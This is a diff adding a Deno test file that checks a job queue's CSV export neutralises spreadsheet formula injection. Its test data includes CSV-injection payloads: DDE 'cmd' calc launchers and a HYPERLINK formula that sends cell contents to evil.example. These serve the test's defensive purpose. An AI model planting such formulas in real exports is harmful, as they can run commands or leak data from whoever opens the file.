@@ -1,0 +1,105 @@
+import assert from "node:assert/strict";
+import { csvHead, csvRow } from "../../ui/csv.ts";
+import { claimNext, end } from "../support/attempts.ts";
+import { CONTROLS } from "../support/evil_texts.ts";
+import { testQueue } from "../support/test_queue.ts";
+import { openDesk } from "./open_desk.ts";
+
+/** As a spreadsheet reads it (RFC 4180). */
+function parse(text: string): string[][] {
+  const rows: string[][] = [[]];
+  for (const [, quoted, plain, stop] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
+    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? "");
+    if (stop !== ",") rows.push([]);
+  }
+  return rows.slice(0, -1);
+}
+
+const FORMULAS = [
+  ...[
+    "=1+1",
+    "+1",
+    "-1",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    " =1",
+    "\u00a0=1",
+    "  @x",
+    "＝1",
+    "＋1",
+    "－1",
+    "＠x",
+  ],
+  ...[
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example?"&A1)',
+    '-2+3+cmd|" /C calc"!A0',
+    "=\u202e1",
+    "+",
+  ],
+];
+
+const TEXTS = [
+  ...[
+    "plain",
+    "a,b",
+    'say "hello"',
+    '"',
+    '""',
+    '","',
+    "a\nb",
+    "a\r\nb",
+    "a;=1+1",
+    "a\t=1",
+    "'=1",
+    "1=1",
+    "日本語 😀",
+  ],
+  ...["a\\,b", "a'b", ",", ";", "\\", "a\rb", "https://x/?a=b", "1e5", "007"],
+  ...CONTROLS.filter((text) => text.isWellFormed()),
+];
+
+function asCell(text: string): string {
+  return FORMULAS.includes(text) ? `'${text}` : text;
+}
+
+Deno.test("a cell that begins like a formula is made text, and every other one comes back as it was", async () => {
+  await using desk = await testQueue();
+  const [added] = await desk.queue.add([{ id: "a", kind: "mail" }]);
+  assert.ok(added);
+  for (const text of [...FORMULAS, ...TEXTS]) {
+    const job = { ...added.job, id: text, kind: text, consumerId: text, error: text };
+    const rows = parse(csvHead() + csvRow(job));
+    const [head = [], row = []] = rows;
+    assert.deepEqual([rows.length, row.length], [2, head.length], JSON.stringify(text));
+    const cells = ["id", "kind", "consumer_id", "error"].map((name) => row[head.indexOf(name)]);
+    assert.deepEqual(new Set(cells), new Set([asCell(text)]), JSON.stringify(text));
+  }
+});
+
+Deno.test("a semicolon and a tab divide no cell either, whatever a spreadsheet takes for its comma", async () => {
+  await using desk = await testQueue();
+  const [added] = await desk.queue.add([{ id: "a", kind: "mail" }]);
+  assert.ok(added);
+  for (const text of ["a;=1+1", "a\t=1+1"]) {
+    assert.ok(csvRow({ ...added.job, id: text }).startsWith(`"${text}",`));
+  }
+});
+
+Deno.test("errors and ids travel through the export of the API, each on its own row", async () => {
+  await using desk = await openDesk();
+  const ids = [...FORMULAS, ...TEXTS].filter((id) => !/\p{Cc}/u.test(id));
+  await desk.queue.add(ids.map((id) => ({ id, kind: "mail" })));
+  for (const error of CONTROLS) {
+    await end(desk.queue, await claimNext(desk.queue), { type: "gave-up", error });
+  }
+  const answer = await desk.api("/api/jobs.csv");
+  assert.equal(answer.headers.get("content-disposition"), 'attachment; filename="jobs.csv"');
+  const [head = [], ...rows] = parse(await answer.text());
+  const column = (name: string) => rows.map((row) => row[head.indexOf(name)] ?? "");
+  assert.ok(rows.every((row) => row.length === head.length));
+  assert.deepEqual(column("id").toReversed(), ids.map(asCell));
+  assert.deepEqual(column("error").filter((error) => error !== "").length, CONTROLS.length);
+});
